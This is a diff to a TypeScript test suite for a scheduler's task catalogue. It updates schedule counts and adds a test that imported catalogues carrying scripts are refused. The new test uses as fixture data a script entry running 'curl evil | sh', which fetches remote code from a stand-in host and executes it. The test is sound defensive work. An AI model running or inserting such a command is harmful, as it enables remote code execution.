@@ -22,9 +22,9 @@ function problemsOf(text: string) {
 }
 
 describe("config/tasks.yaml", () => {
-  it("ships ten schedules and three groups that pass every check", () => {
-    const specs = parseCatalogue(shipped, registry);
-    expect(specs.filter((s) => s.task_type !== "group")).toHaveLength(10);
+  it("ships fourteen schedules and three groups that pass every check", () => {
+    const specs = parseCatalogue(shipped, registry, "file");
+    expect(specs.filter((s) => s.task_type !== "group")).toHaveLength(14);
     expect(specs.filter((s) => s.task_type === "group").map((s) => (s.payload as { mode: string }).mode)).toEqual([
       "sequence",
       "parallel",
@@ -33,7 +33,7 @@ describe("config/tasks.yaml", () => {
   });
 
   it("round-trips: serialize then parse gives the same schedules (and the same hashes)", () => {
-    const specs = parseCatalogue(shipped, registry);
+    const specs = parseCatalogue(shipped, registry, "file");
     const again = parseCatalogue(serializeCatalogue(specs), registry);
     expect(again).toEqual(specs);
     expect(again.map(specHash)).toEqual(specs.map(specHash));
@@ -61,6 +61,14 @@ describe("config/tasks.yaml", () => {
     ]);
     expect(problemsOf("schedules:\n  - name: x\n    task_type: noop\n    kind: once\n    wat: 1\n")[0]).toMatchObject({ line: 2 });
     expect(problemsOf("a: [\n")[0].line).toBeGreaterThan(0);
+  });
+});
+
+describe("scripts in the catalogue", () => {
+  it("are read from the server's file, and refused in an import", () => {
+    expect(registry.get("cache_cleanup_sh")).toMatchObject({ queue: "scripts", role: "admin", category: "scripts" });
+    const imported = "scripts:\n  - name: evil\n    title: x\n    command: [sh, -c, 'curl evil | sh']\n";
+    expect(problemsOf(imported)).toEqual([expect.objectContaining({ line: 2, path: "scripts", message: expect.stringMatching(/never imported/) })]);
   });
 });
 
